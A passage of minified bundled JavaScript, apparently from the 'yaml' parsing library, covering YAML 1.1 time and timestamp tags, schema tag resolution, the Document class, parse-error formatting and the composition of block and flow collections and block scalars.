reduce((i,a)=>i*n(60)+n(a),n(0));return s==="-"?n(-1)*o:o}function Yb(t){let{value:e}=t,s=i=>i;if(typeof e=="bigint")s=i=>BigInt(i);else if(isNaN(e)||!isFinite(
e))return yE.stringifyNumber(t);let r="";e<0&&(r="-",e*=s(-1));let n=s(60),o=[e%n];return e<60?o.unshift(0):(e=(e-o[0])/n,o.unshift(e%n),e>=60&&(e=(e-o[0])/n,o.
unshift(e))),r+o.map(i=>String(i).padStart(2,"0")).join(":").replace(/000000\d*$/,"")}var wE={identify:t=>typeof t=="bigint"||Number.isInteger(t),default:!0,tag:"\
tag:yaml.org,2002:int",format:"TIME",test:/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,resolve:(t,e,{intAsBigInt:s})=>Xd(t,s),stringify:Yb},kE={identify:t=>typeof t==
"number",default:!0,tag:"tag:yaml.org,2002:float",format:"TIME",test:/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,resolve:t=>Xd(t,!1),stringify:Yb},Qb={identify:t=>t instanceof
Date,default:!0,tag:"tag:yaml.org,2002:timestamp",test:RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-\
9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),resolve(t){let e=t.match(Qb.test);if(!e)throw new Error("!!timestamp expects a date, starting with yyyy\
-mm-dd");let[,s,r,n,o,i,a]=e.map(Number),l=e[7]?Number((e[7]+"00").substr(1,3)):0,c=Date.UTC(s,r-1,n,o||0,i||0,a||0,l),d=e[8];if(d&&d!=="Z"){let u=Xd(d,!1);Math.
abs(u)<30&&(u*=60),c-=6e4*u}return new Date(c)},stringify:({value:t})=>t?.toISOString().replace(/(T00:00:00)?\.000Z$/,"")??""};Ba.floatTime=kE;Ba.intTime=wE;Ba.
timestamp=Qb});var Zb=L(Jb=>{"use strict";var vE=an(),xE=Ia(),$E=ln(),_E=co(),SE=Fd(),Xb=Bb(),Zd=zb(),za=Kb(),CE=_a(),EE=Bd(),AE=Wa(),TE=Qd(),eu=Jd(),PE=[vE.map,$E.seq,_E.string,
xE.nullTag,Xb.trueTag,Xb.falseTag,za.intBin,za.intOct,za.int,za.intHex,Zd.floatNaN,Zd.floatExp,Zd.float,SE.binary,CE.merge,EE.omap,AE.pairs,TE.set,eu.intTime,eu.
floatTime,eu.timestamp];Jb.schema=PE});var cy=L(ru=>{"use strict";var ry=an(),RE=Ia(),ny=ln(),IE=co(),qE=qd(),tu=Nd(),su=Dd(),OE=Ib(),NE=Nb(),oy=Fd(),ho=_a(),iy=Bd(),ay=Wa(),ey=Zb(),ly=Qd(),Ga=Jd(),ty=new Map(
[["core",OE.schema],["failsafe",[ry.map,ny.seq,IE.string]],["json",NE.schema],["yaml11",ey.schema],["yaml-1.1",ey.schema]]),sy={binary:oy.binary,bool:qE.boolTag,
float:tu.float,floatExp:tu.floatExp,floatNaN:tu.floatNaN,floatTime:Ga.floatTime,int:su.int,intHex:su.intHex,intOct:su.intOct,intTime:Ga.intTime,map:ry.map,merge:ho.
merge,null:RE.nullTag,omap:iy.omap,pairs:ay.pairs,seq:ny.seq,set:ly.set,timestamp:Ga.timestamp},LE={"tag:yaml.org,2002:binary":oy.binary,"tag:yaml.org,2002:merg\
e":ho.merge,"tag:yaml.org,2002:omap":iy.omap,"tag:yaml.org,2002:pairs":ay.pairs,"tag:yaml.org,2002:set":ly.set,"tag:yaml.org,2002:timestamp":Ga.timestamp};function DE(t,e,s){
let r=ty.get(e);if(r&&!t)return s&&!r.includes(ho.merge)?r.concat(ho.merge):r.slice();let n=r;if(!n)if(Array.isArray(t))n=[];else{let o=Array.from(ty.keys()).filter(
i=>i!=="yaml11").map(i=>JSON.stringify(i)).join(", ");throw new Error(`Unknown schema "${e}"; use one of ${o} or define customTags array`)}if(Array.isArray(t))for(let o of t)
n=n.concat(o);else typeof t=="function"&&(n=t(n.slice()));return s&&(n=n.concat(ho.merge)),n.reduce((o,i)=>{let a=typeof i=="string"?sy[i]:i;if(!a){let l=JSON.stringify(
i),c=Object.keys(sy).map(d=>JSON.stringify(d)).join(", ");throw new Error(`Unknown custom tag ${l}; use one of ${c}`)}return o.includes(a)||o.push(a),o},[])}ru.
coreKnownTags=LE;ru.getTags=DE});var iu=L(dy=>{"use strict";var nu=se(),jE=an(),WE=ln(),ME=co(),Ka=cy(),FE=(t,e)=>t.key<e.key?-1:t.key>e.key?1:0,ou=class t{constructor({compat:e,customTags:s,merge:r,
resolveKnownTags:n,schema:o,sortMapEntries:i,toStringDefaults:a}){this.compat=Array.isArray(e)?Ka.getTags(e,"compat"):e?Ka.getTags(null,e):null,this.name=typeof o==
"string"&&o||"core",this.knownTags=n?Ka.coreKnownTags:{},this.tags=Ka.getTags(s,this.name,r),this.toStringOptions=a??null,Object.defineProperty(this,nu.MAP,{value:jE.
map}),Object.defineProperty(this,nu.SCALAR,{value:ME.string}),Object.defineProperty(this,nu.SEQ,{value:WE.seq}),this.sortMapEntries=typeof i=="function"?i:i===!0?
FE:null}clone(){let e=Object.create(t.prototype,Object.getOwnPropertyDescriptors(this));return e.tags=this.tags.slice(),e}};dy.Schema=ou});var py=L(uy=>{"use strict";var UE=se(),au=io(),go=so();function VE(t,e){let s=[],r=e.directives===!0;if(e.directives!==!1&&t.directives){let l=t.directives.toString(
t);l?(s.push(l),r=!0):t.directives.docStart&&(r=!0)}r&&s.push("---");let n=au.createStringifyContext(t,e),{commentString:o}=n.options;if(t.commentBefore){s.length!==
1&&s.unshift("");let l=o(t.commentBefore);s.unshift(go.indentComment(l,""))}let i=!1,a=null;if(t.contents){if(UE.isNode(t.contents)){if(t.contents.spaceBefore&&
r&&s.push(""),t.contents.commentBefore){let d=o(t.contents.commentBefore);s.push(go.indentComment(d,""))}n.forceBlockIndent=!!t.comment,a=t.contents.comment}let l=a?
void 0:()=>i=!0,c=au.stringify(t.contents,n,()=>a=null,l);a&&(c+=go.lineComment(c,"",o(a))),(c[0]==="|"||c[0]===">")&&s[s.length-1]==="---"?s[s.length-1]=`--- ${c}`:
s.push(c)}else s.push(au.stringify(t.contents,n));if(t.directives?.docEnd)if(t.comment){let l=o(t.comment);l.includes(`
`)?(s.push("..."),s.push(go.indentComment(l,""))):s.push(`... ${l}`)}else s.push("...");else{let l=t.comment;l&&i&&(l=l.replace(/^\n+/,"")),l&&((!i||a)&&s[s.length-
1]!==""&&s.push(""),s.push(go.indentComment(o(l),"")))}return s.join(`
`)+`
`}uy.stringifyDocument=VE});var bo=L(fy=>{"use strict";var HE=eo(),dn=ma(),St=se(),BE=Hs(),zE=Ms(),GE=iu(),KE=py(),lu=da(),YE=pd(),QE=to(),cu=ud(),du=class t{constructor(e,s,r){this.commentBefore=
null,this.comment=null,this.errors=[],this.warnings=[],Object.defineProperty(this,St.NODE_TYPE,{value:St.DOC});let n=null;typeof s=="function"||Array.isArray(s)?
n=s:r===void 0&&s&&(r=s,s=void 0);let o=Object.assign({intAsBigInt:!1,keepSourceTokens:!1,logLevel:"warn",prettyErrors:!0,strict:!0,stringKeys:!1,uniqueKeys:!0,
version:"1.2"},r);this.options=o;let{version:i}=o;r?._directives?(this.directives=r._directives.atDocument(),this.directives.yaml.explicit&&(i=this.directives.yaml.
version)):this.directives=new cu.Directives({version:i}),this.setSchema(i,r),this.contents=e===void 0?null:this.createNode(e,n,r)}clone(){let e=Object.create(t.
prototype,{[St.NODE_TYPE]:{value:St.DOC}});return e.commentBefore=this.commentBefore,e.comment=this.comment,e.errors=this.errors.slice(),e.warnings=this.warnings.
slice(),e.options=Object.assign({},this.options),this.directives&&(e.directives=this.directives.clone()),e.schema=this.schema.clone(),e.contents=St.isNode(this.
contents)?this.contents.clone(e.schema):this.contents,this.range&&(e.range=this.range.slice()),e}add(e){un(this.contents)&&this.contents.add(e)}addIn(e,s){un(this.
contents)&&this.contents.addIn(e,s)}createAlias(e,s){if(!e.anchor){let r=lu.anchorNames(this);e.anchor=!s||r.has(s)?lu.findNewAnchor(s||"a",r):s}return new HE.Alias(
e.anchor)}createNode(e,s,r){let n;if(typeof s=="function")e=s.call({"":e},"",e),n=s;else if(Array.isArray(s)){let g=x=>typeof x=="number"||x instanceof String||
x instanceof Number,y=s.filter(g).map(String);y.length>0&&(s=s.concat(y)),n=s}else r===void 0&&s&&(r=s,s=void 0);let{aliasDuplicateObjects:o,anchorPrefix:i,flow:a,
keepUndefined:l,onTagObj:c,tag:d}=r??{},{onAnchor:u,setAnchors:p,sourceObjects:f}=lu.createNodeAnchors(this,i||"a"),m={aliasDuplicateObjects:o??!0,keepUndefined:l??
!1,onAnchor:u,onTagObj:c,replacer:n,schema:this.schema,sourceObjects:f},h=QE.createNode(e,d,m);return a&&St.isCollection(h)&&(h.flow=!0),p(),h}createPair(e,s,r={}){
let n=this.createNode(e,null,r),o=this.createNode(s,null,r);return new BE.Pair(n,o)}delete(e){return un(this.contents)?this.contents.delete(e):!1}deleteIn(e){return dn.
isEmptyPath(e)?this.contents==null?!1:(this.contents=null,!0):un(this.contents)?this.contents.deleteIn(e):!1}get(e,s){return St.isCollection(this.contents)?this.
contents.get(e,s):void 0}getIn(e,s){return dn.isEmptyPath(e)?!s&&St.isScalar(this.contents)?this.contents.value:this.contents:St.isCollection(this.contents)?this.
contents.getIn(e,s):void 0}has(e){return St.isCollection(this.contents)?this.contents.has(e):!1}hasIn(e){return dn.isEmptyPath(e)?this.contents!==void 0:St.isCollection(
this.contents)?this.contents.hasIn(e):!1}set(e,s){this.contents==null?this.contents=dn.collectionFromPath(this.schema,[e],s):un(this.contents)&&this.contents.set(
e,s)}setIn(e,s){dn.isEmptyPath(e)?this.contents=s:this.contents==null?this.contents=dn.collectionFromPath(this.schema,Array.from(e),s):un(this.contents)&&this.contents.
setIn(e,s)}setSchema(e,s={}){typeof e=="number"&&(e=String(e));let r;switch(e){case"1.1":this.directives?this.directives.yaml.version="1.1":this.directives=new cu.
Directives({version:"1.1"}),r={resolveKnownTags:!1,schema:"yaml-1.1"};break;case"1.2":case"next":this.directives?this.directives.yaml.version=e:this.directives=
new cu.Directives({version:e}),r={resolveKnownTags:!0,schema:"core"};break;case null:this.directives&&delete this.directives,r=null;break;default:{let n=JSON.stringify(
e);throw new Error(`Expected '1.1', '1.2' or null as first argument, but found: ${n}`)}}if(s.schema instanceof Object)this.schema=s.schema;else if(r)this.schema=
new GE.Schema(Object.assign(r,s));else throw new Error("With a null YAML version, the { schema: Schema } option is required")}toJS({json:e,jsonArg:s,mapAsMap:r,
maxAliasCount:n,onAnchor:o,reviver:i}={}){let a={anchors:new Map,doc:this,keep:!e,mapAsMap:r===!0,mapKeyWarned:!1,maxAliasCount:typeof n=="number"?n:100},l=zE.toJS(
this.contents,s??"",a);if(typeof o=="function")for(let{count:c,res:d}of a.anchors.values())o(d,c);return typeof i=="function"?YE.applyReviver(i,{"":l},"",l):l}toJSON(e,s){
return this.toJS({json:!0,jsonArg:e,mapAsMap:!1,onAnchor:s})}toString(e={}){if(this.errors.length>0)throw new Error("Document with errors cannot be stringified");
if("indent"in e&&(!Number.isInteger(e.indent)||Number(e.indent)<=0)){let s=JSON.stringify(e.indent);throw new Error(`"indent" option must be a positive integer,\
 not ${s}`)}return KE.stringifyDocument(this,e)}};function un(t){if(St.isCollection(t))return!0;throw new Error("Expected a YAML collection as document contents")}
fy.Document=du});var ko=L(wo=>{"use strict";var yo=class extends Error{constructor(e,s,r,n){super(),this.name=e,this.code=r,this.message=n,this.pos=s}},uu=class extends yo{constructor(e,s,r){
super("YAMLParseError",e,s,r)}},pu=class extends yo{constructor(e,s,r){super("YAMLWarning",e,s,r)}},XE=(t,e)=>s=>{if(s.pos[0]===-1)return;s.linePos=s.pos.map(a=>e.
linePos(a));let{line:r,col:n}=s.linePos[0];s.message+=` at line ${r}, column ${n}`;let o=n-1,i=t.substring(e.lineStarts[r-1],e.lineStarts[r]).replace(/[\n\r]+$/,
"");if(o>=60&&i.length>80){let a=Math.min(o-39,i.length-79);i="\u2026"+i.substring(a),o-=a-1}if(i.length>80&&(i=i.substring(0,79)+"\u2026"),r>1&&/^ *$/.test(i.substring(
0,o))){let a=t.substring(e.lineStarts[r-2],e.lineStarts[r-1]);a.length>80&&(a=a.substring(0,79)+`\u2026
`),i=a+i}if(/[^ ]/.test(i)){let a=1,l=s.linePos[1];l?.line===r&&l.col>n&&(a=Math.max(1,Math.min(l.col-n,80-o)));let c=" ".repeat(o)+"^".repeat(a);s.message+=`:

${i}
${c}
`}};wo.YAMLError=yo;wo.YAMLParseError=uu;wo.YAMLWarning=pu;wo.prettifyError=XE});var vo=L(my=>{"use strict";function JE(t,{flow:e,indicator:s,next:r,offset:n,onError:o,parentIndent:i,startOnNewline:a}){let l=!1,c=a,d=a,u="",p="",f=!1,m=!1,h=null,
g=null,y=null,x=null,$=null,C=null,_=null;for(let P of t)switch(m&&(P.type!=="space"&&P.type!=="newline"&&P.type!=="comma"&&o(P.offset,"MISSING_CHAR","Tags and \
anchors must be separated from the next token by white space"),m=!1),h&&(c&&P.type!=="comment"&&P.type!=="newline"&&o(h,"TAB_AS_INDENT","Tabs are not allowed as\
 indentation"),h=null),P.type){case"space":!e&&(s!=="doc-start"||r?.type!=="flow-collection")&&P.source.includes("	")&&(h=P),d=!0;break;case"comment":{d||o(P,"M\
ISSING_CHAR","Comments must be separated from other tokens by white space characters");let N=P.source.substring(1)||" ";u?u+=p+N:u=N,p="",c=!1;break}case"newlin\
e":c?u?u+=P.source:(!C||s!=="seq-item-ind")&&(l=!0):p+=P.source,c=!0,f=!0,(g||y)&&(x=P),d=!0;break;case"anchor":g&&o(P,"MULTIPLE_ANCHORS","A node can have at mo\
st one anchor"),P.source.endsWith(":")&&o(P.offset+P.source.length-1,"BAD_ALIAS","Anchor ending in : is ambiguous",!0),g=P,_??(_=P.offset),c=!1,d=!1,m=!0;break;case"\
tag":{y&&o(P,"MULTIPLE_TAGS","A node can have at most one tag"),y=P,_??(_=P.offset),c=!1,d=!1,m=!0;break}case s:(g||y)&&o(P,"BAD_PROP_ORDER",`Anchors and tags m\
ust be after the ${P.source} indicator`),C&&o(P,"UNEXPECTED_TOKEN",`Unexpected ${P.source} in ${e??"collection"}`),C=P,c=s==="seq-item-ind"||s==="explicit-key-i\
nd",d=!1;break;case"comma":if(e){$&&o(P,"UNEXPECTED_TOKEN",`Unexpected , in ${e}`),$=P,c=!1,d=!1;break}default:o(P,"UNEXPECTED_TOKEN",`Unexpected ${P.type} toke\
n`),c=!1,d=!1}let T=t[t.length-1],q=T?T.offset+T.source.length:n;return m&&r&&r.type!=="space"&&r.type!=="newline"&&r.type!=="comma"&&(r.type!=="scalar"||r.source!==
"")&&o(r.offset,"MISSING_CHAR","Tags and anchors must be separated from the next token by white space"),h&&(c&&h.indent<=i||r?.type==="block-map"||r?.type==="bl\
ock-seq")&&o(h,"TAB_AS_INDENT","Tabs are not allowed as indentation"),{comma:$,found:C,spaceBefore:l,comment:u,hasNewline:f,anchor:g,tag:y,newlineAfterProp:x,end:q,
start:_??q}}my.resolveProps=JE});var Ya=L(hy=>{"use strict";function fu(t){if(!t)return null;switch(t.type){case"alias":case"scalar":case"double-quoted-scalar":case"single-quoted-scalar":if(t.source.
includes(`
`))return!0;if(t.end){for(let e of t.end)if(e.type==="newline")return!0}return!1;case"flow-collection":for(let e of t.items){for(let s of e.start)if(s.type==="n\
ewline")return!0;if(e.sep){for(let s of e.sep)if(s.type==="newline")return!0}if(fu(e.key)||fu(e.value))return!0}return!1;default:return!0}}hy.containsNewline=fu});var mu=L(gy=>{"use strict";var ZE=Ya();function eA(t,e,s){if(e?.type==="flow-collection"){let r=e.end[0];r.indent===t&&(r.source==="]"||r.source==="}")&&ZE.containsNewline(
e)&&s(r,"BAD_INDENT","Flow end indicator should be more indented than parent",!0)}}gy.flowIndentCheck=eA});var hu=L(yy=>{"use strict";var by=se();function tA(t,e,s){let{uniqueKeys:r}=t.options;if(r===!1)return!1;let n=typeof r=="function"?r:(o,i)=>o===i||by.isScalar(
o)&&by.isScalar(i)&&o.value===i.value;return e.some(o=>n(o.key,s))}yy.mapIncludes=tA});var _y=L($y=>{"use strict";var wy=Hs(),sA=zs(),ky=vo(),rA=Ya(),vy=mu(),nA=hu(),xy="All mapping items must start at the same column";function oA({composeNode:t,composeEmptyNode:e},s,r,n,o){
let i=o?.nodeClass??sA.YAMLMap,a=new i(s.schema);s.atRoot&&(s.atRoot=!1);let l=r.offset,c=null;for(let d of r.items){let{start:u,key:p,sep:f,value:m}=d,h=ky.resolveProps(
u,{indicator:"explicit-key-ind",next:p??f?.[0],offset:l,onError:n,parentIndent:r.indent,startOnNewline:!0}),g=!h.found;if(g){if(p&&(p.type==="block-seq"?n(l,"BL\
OCK_AS_IMPLICIT_KEY","A block sequence may not be used as an implicit map key"):"indent"in p&&p.indent!==r.indent&&n(l,"BAD_INDENT",xy)),!h.anchor&&!h.tag&&!f){
c=h.end,h.comment&&(a.comment?a.comment+=`
`+h.comment:a.comment=h.comment);continue}(h.newlineAfterProp||rA.containsNewline(p))&&n(p??u[u.length-1],"MULTILINE_IMPLICIT_KEY","Implicit keys need to be on \
a single line")}else h.found?.indent!==r.indent&&n(l,"BAD_INDENT",xy);s.atKey=!0;let y=h.end,x=p?t(s,p,h,n):e(s,y,u,null,h,n);s.schema.compat&&vy.flowIndentCheck(
r.indent,p,n),s.atKey=!1,nA.mapIncludes(s,a.items,x)&&n(y,"DUPLICATE_KEY","Map keys must be unique");let $=ky.resolveProps(f??[],{indicator:"map-value-ind",next:m,
offset:x.range[2],onError:n,parentIndent:r.indent,startOnNewline:!p||p.type==="block-scalar"});if(l=$.end,$.found){g&&(m?.type==="block-map"&&!$.hasNewline&&n(l,
"BLOCK_AS_IMPLICIT_KEY","Nested mappings are not allowed in compact mappings"),s.options.strict&&h.start<$.found.offset-1024&&n(x.range,"KEY_OVER_1024_CHARS","T\
he : indicator must be at most 1024 chars after the start of an implicit block mapping key"));let C=m?t(s,m,$,n):e(s,l,f,null,$,n);s.schema.compat&&vy.flowIndentCheck(
r.indent,m,n),l=C.range[2];let _=new wy.Pair(x,C);s.options.keepSourceTokens&&(_.srcToken=d),a.items.push(_)}else{g&&n(x.range,"MISSING_CHAR","Implicit map keys\
 need to be followed by map values"),$.comment&&(x.comment?x.comment+=`
`+$.comment:x.comment=$.comment);let C=new wy.Pair(x);s.options.keepSourceTokens&&(C.srcToken=d),a.items.push(C)}}return c&&c<l&&n(c,"IMPOSSIBLE","Map comment w\
ith trailing content"),a.range=[r.offset,l,c??l],a}$y.resolveBlockMap=oA});var Cy=L(Sy=>{"use strict";var iA=Gs(),aA=vo(),lA=mu();function cA({composeNode:t,composeEmptyNode:e},s,r,n,o){let i=o?.nodeClass??iA.YAMLSeq,a=new i(s.schema);
s.atRoot&&(s.atRoot=!1),s.atKey&&(s.atKey=!1);let l=r.offset,c=null;for(let{start:d,value:u}of r.items){let p=aA.resolveProps(d,{indicator:"seq-item-ind",next:u,
offset:l,onError:n,parentIndent:r.indent,startOnNewline:!0});if(!p.found)if(p.anchor||p.tag||u)u?.type==="block-seq"?n(p.end,"BAD_INDENT","All sequence items mu\
st start at the same column"):n(l,"MISSING_CHAR","Sequence item without - indicator");else{c=p.end,p.comment&&(a.comment=p.comment);continue}let f=u?t(s,u,p,n):
e(s,p.end,d,null,p,n);s.schema.compat&&lA.flowIndentCheck(r.indent,u,n),l=f.range[2],a.items.push(f)}return a.range=[r.offset,l,c??l],a}Sy.resolveBlockSeq=cA});var pn=L(Ey=>{"use strict";function dA(t,e,s,r){let n="";if(t){let o=!1,i="";for(let a of t){let{source:l,type:c}=a;switch(c){case"space":o=!0;break;case"commen\
t":{s&&!o&&r(a,"MISSING_CHAR","Comments must be separated from other tokens by white space characters");let d=l.substring(1)||" ";n?n+=i+d:n=d,i="";break}case"n\
ewline":n&&(i+=l),o=!0;break;default:r(a,"UNEXPECTED_TOKEN",`Unexpected ${c} at node end`)}e+=l.length}}return{comment:n,offset:e}}Ey.resolveEnd=dA});var Ry=L(Py=>{"use strict";var uA=se(),pA=Hs(),Ay=zs(),fA=Gs(),mA=pn(),Ty=vo(),hA=Ya(),gA=hu(),gu="Block collections are not allowed within flow collections",bu=t=>t&&
(t.type==="block-map"||t.type==="block-seq");function bA({composeNode:t,composeEmptyNode:e},s,r,n,o){let i=r.start.source==="{",a=i?"flow map":"flow sequence",l=o?.
nodeClass??(i?Ay.YAMLMap:fA.YAMLSeq),c=new l(s.schema);c.flow=!0;let d=s.atRoot;d&&(s.atRoot=!1),s.atKey&&(s.atKey=!1);let u=r.offset+r.start.source.length;for(let g=0;g<
r.items.length;++g){let y=r.items[g],{start:x,key:$,sep:C,value:_}=y,T=Ty.resolveProps(x,{flow:a,indicator:"explicit-key-ind",next:$??C?.[0],offset:u,onError:n,
parentIndent:r.indent,startOnNewline:!1});if(!T.found){if(!T.anchor&&!T.tag&&!C&&!_){g===0&&T.comma?n(T.comma,"UNEXPECTED_TOKEN",`Unexpected , in ${a}`):g<r.items.
length-1&&n(T.start,"UNEXPECTED_TOKEN",`Unexpected empty item in ${a}`),T.comment&&(c.comment?c.comment+=`
`+T.comment:c.comment=T.comment),u=T.end;continue}!i&&s.options.strict&&hA.containsNewline($)&&n($,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pair\
s need to be on a single line")}if(g===0)T.comma&&n(T.comma,"UNEXPECTED_TOKEN",`Unexpected , in ${a}`);else if(T.comma||n(T.start,"MISSING_CHAR",`Missing , betw\
een ${a} items`),T.comment){let q="";e:for(let P of x)switch(P.type){case"comma":case"space":break;case"comment":q=P.source.substring(1);break e;default:break e}
if(q){let P=c.items[c.items.length-1];uA.isPair(P)&&(P=P.value??P.key),P.comment?P.comment+=`
`+q:P.comment=q,T.comment=T.comment.substring(q.length+1)}}if(!i&&!C&&!T.found){let q=_?t(s,_,T,n):e(s,T.end,C,null,T,n);c.items.push(q),u=q.range[2],bu(_)&&n(q.
range,"BLOCK_IN_FLOW",gu)}else{s.atKey=!0;let q=T.end,P=$?t(s,$,T,n):e(s,q,x,null,T,n);bu($)&&n(P.range,"BLOCK_IN_FLOW",gu),s.atKey=!1;let N=Ty.resolveProps(C??
[],{flow:a,indicator:"map-value-ind",next:_,offset:P.range[2],onError:n,parentIndent:r.indent,startOnNewline:!1});if(N.found){if(!i&&!T.found&&s.options.strict){
if(C)for(let F of C){if(F===N.found)break;if(F.type==="newline"){n(F,"MULTILINE_IMPLICIT_KEY","Implicit keys of flow sequence pairs need to be on a single line");
break}}T.start<N.found.offset-1024&&n(N.found,"KEY_OVER_1024_CHARS","The : indicator must be at most 1024 chars after the start of an implicit flow sequence key")}}else
_&&("source"in _&&_.source?.[0]===":"?n(_,"MISSING_CHAR",`Missing space after : in ${a}`):n(N.start,"MISSING_CHAR",`Missing , or : between ${a} items`));let D=_?
t(s,_,N,n):N.found?e(s,N.end,C,null,N,n):null;D?bu(_)&&n(D.range,"BLOCK_IN_FLOW",gu):N.comment&&(P.comment?P.comment+=`
`+N.comment:P.comment=N.comment);let ve=new pA.Pair(P,D);if(s.options.keepSourceTokens&&(ve.srcToken=y),i){let F=c;gA.mapIncludes(s,F.items,P)&&n(q,"DUPLICATE_K\
EY","Map keys must be unique"),F.items.push(ve)}else{let F=new Ay.YAMLMap(s.schema);F.flow=!0,F.items.push(ve);let be=(D??P).range;F.range=[P.range[0],be[1],be[2]],
c.items.push(F)}u=D?D.range[2]:N.end}}let p=i?"}":"]",[f,...m]=r.end,h=u;if(f?.source===p)h=f.offset+f.source.length;else{let g=a[0].toUpperCase()+a.substring(1),
y=d?`${g} must end with a ${p}`:`${g} in block collection must be sufficiently indented and end with a ${p}`;n(u,d?"MISSING_CHAR":"BAD_INDENT",y),f&&f.source.length!==
1&&m.unshift(f)}if(m.length>0){let g=mA.resolveEnd(m,h,s.options.strict,n);g.comment&&(c.comment?c.comment+=`
`+g.comment:c.comment=g.comment),c.range=[r.offset,h,g.offset]}else c.range=[r.offset,h,h];return c}Py.resolveFlowCollection=bA});var qy=L(Iy=>{"use strict";var yA=se(),wA=Re(),kA=zs(),vA=Gs(),xA=_y(),$A=Cy(),_A=Ry();function yu(t,e,s,r,n,o){let i=s.type==="block-map"?xA.resolveBlockMap(t,
e,s,r,o):s.type==="block-seq"?$A.resolveBlockSeq(t,e,s,r,o):_A.resolveFlowCollection(t,e,s,r,o),a=i.constructor;return n==="!"||n===a.tagName?(i.tag=a.tagName,i):
(n&&(i.tag=n),i)}function SA(t,e,s,r,n){let o=r.tag,i=o?e.directives.tagName(o.source,p=>n(o,"TAG_RESOLVE_FAILED",p)):null;if(s.type==="block-seq"){let{anchor:p,
newlineAfterProp:f}=r,m=p&&o?p.offset>o.offset?p:o:p??o;m&&(!f||f.offset<m.offset)&&n(m,"MISSING_CHAR","Missing newline after block sequence props")}let a=s.type===
"block-map"?"map":s.type==="block-seq"?"seq":s.start.source==="{"?"map":"seq";if(!o||!i||i==="!"||i===kA.YAMLMap.tagName&&a==="map"||i===vA.YAMLSeq.tagName&&a===
"seq")return yu(t,e,s,n,i);let l=e.schema.tags.find(p=>p.tag===i&&p.collection===a);if(!l){let p=e.schema.knownTags[i];if(p?.collection===a)e.schema.tags.push(Object.
assign({},p,{default:!1})),l=p;else return p?n(o,"BAD_COLLECTION_TYPE",`${p.tag} used for ${a} collection, but expects ${p.collection??"scalar"}`,!0):n(o,"TAG_R\
ESOLVE_FAILED",`Unresolved tag: ${i}`,!0),yu(t,e,s,n,i)}let c=yu(t,e,s,n,i,l),d=l.resolve?.(c,p=>n(o,"TAG_RESOLVE_FAILED",p),e.options)??c,u=yA.isNode(d)?d:new wA.
Scalar(d);return u.range=c.range,u.tag=i,l?.format&&(u.format=l.format),u}Iy.composeCollection=SA});var ku=L(Oy=>{"use strict";var wu=Re();function CA(t,e,s){let r=e.offset,n=EA(e,t.options.strict,s);if(!n)return{value:"",type:null,comment:"",range:[r,r,r]};let o=n.
mode===">"?wu.Scalar.BLOCK_FOLDED:wu.Scalar.BLOCK_LITERAL,i=e.source?AA(e.source):[],a=i.length;for(let h=i.length-1;h>=0;--h){let g=i[h][1];if(g===""||g==="\r")
a=h;else break}if(a===0){let h=n.chomp==="+"&&i.length>0?`
`.repeat(Math.max(1,i.length-1)):"",g=r+n.length;return e.source&&(g+=e.source.length),{value:h,type:o,comment:n.comment,range:[r,g,g]}}let l=e.indent+n.indent,
c=e.offset+n.length,d=0;for(let h=0;h<a;++h){let[g,y]=i[h];if(y===""||y==="\r")n.indent===0&&g.length>l&&(l=g.length);else{g.length<l&&s(c+g.length,"MISSING_CHA\
R","Block scalars with more-indented leading empty lines must use an explicit indentation indicator"),n.indent===0&&(l=g.length),d=h,l===0&&!t.atRoot&&s(c,"BAD_\
INDENT","Block scalar values in collections must be indented");break}c+=g.length+y.length+1}for(let h=i.length-1;h>=a;--h)i[h][0].length>l&&(a=h+1);let u="",p="",
f=!1;for(let h=0;h<d;++h)u+=i[h][0].slice(l)+`
`;for(let h=d;h<a;++h){let[g,y]=i[h];c+=g.length+y.length+1;let x=y[y.length-1]==="\r";if(x&&(y=y.slice(0,-1)),y&&g.length<l){let C=`Block scalar lines must not\
 be less indented than their ${n.indent?"explicit indentation indicator":"first line"}`;s(c-y.length-(x?2:1),"BAD_INDENT",C),g=""}o===wu.Scalar.BLOCK_LITERAL?(u+=
p+g.slice(l)+y,p=`
`):g.length>l||y[0]==="	"?(p===" "?p=`
`:!f&&p===`
`&&(p=`

`),u+=p+g.slice(l)+y,p=`
`,f=!0):y===""?p===`
`?u+=`
`:p=`
`:(u+=p+y,p=" ",f=!1)}switch(n.chomp){case"-":break;case"+":for(let h=a;h<i.length;++h)u+=`
`+i[h][0].slice(l);u[u.length-1]!==`
`&&(u+=`
`);break;default:u+=`
`}let m=r+n.length+e.source.length;return{value:u,type:o,comment:n.comment,range:[r,m,m]}}function EA({offset:t,props:e},s,r){if(e[0].type!=="block-scalar-heade\
r")return r(e[0],"IMPOSSIBLE","Block scalar header not found"),null;let{source:n}=e[0],o=n[0],i=0,a="",l=-1;for(let p=1;p<n.length;++p){let f=n[p];if(!a&&(f==="\
-"||f==="+"))a=f;else{let m=Number(f);!i&&m?i=m:l===-1&&(l=t+p)}}l!==-1&&r(l,"UNEXPECTED_TOKEN",`Block scalar header includes extra characters: ${n}`);let c=!1,
d="",u=n.length;for(let p=1;p<e.length;++p){let f=e[p];switch(f.type){case"space":c=!0;case"newline":u+=f.source.length;break;case"comment":s&&!c&&r(f,"MISSING_\
CHAR","Comments must be separated from other tokens by white space characters"),u+=f.source.length,d=f.source.substring(1);break;case"error":r(f,"UNEXPECTED_TOK\
EN",f.message),u+=f.source.length;break;default:{let m=`Unexpected token in block scalar header: ${f.type}`;r(f,"UNEXPECTED_TOKEN",m);let h=f.source;h&&typeof h==
"string"&&(u+=h.length)}}}return{mode:o,indent:i,chomp:a,comment:d,length:u}}function AA(t){let e=t.split(/\n( *)/),s=e[0],r=s.match(/^( *)/),o=[r?.[1]?[r[1],s.
slice(r[1].length)]:["",s]];for(let i=1;i<e.length;i+=2)o.push([e[i],e[i+1]]);return o}Oy.resolveBlockScalar=CA});var xu=L(Ly=>{"use strict";var vu=Re(),TA=pn();function PA(t,e,s){let{offset:r,type:n,source:o,end:i}=t,a,l,c=(p,f,m)=>s(r+p,f,m);switch(n){case"scalar":a=vu.Scalar.
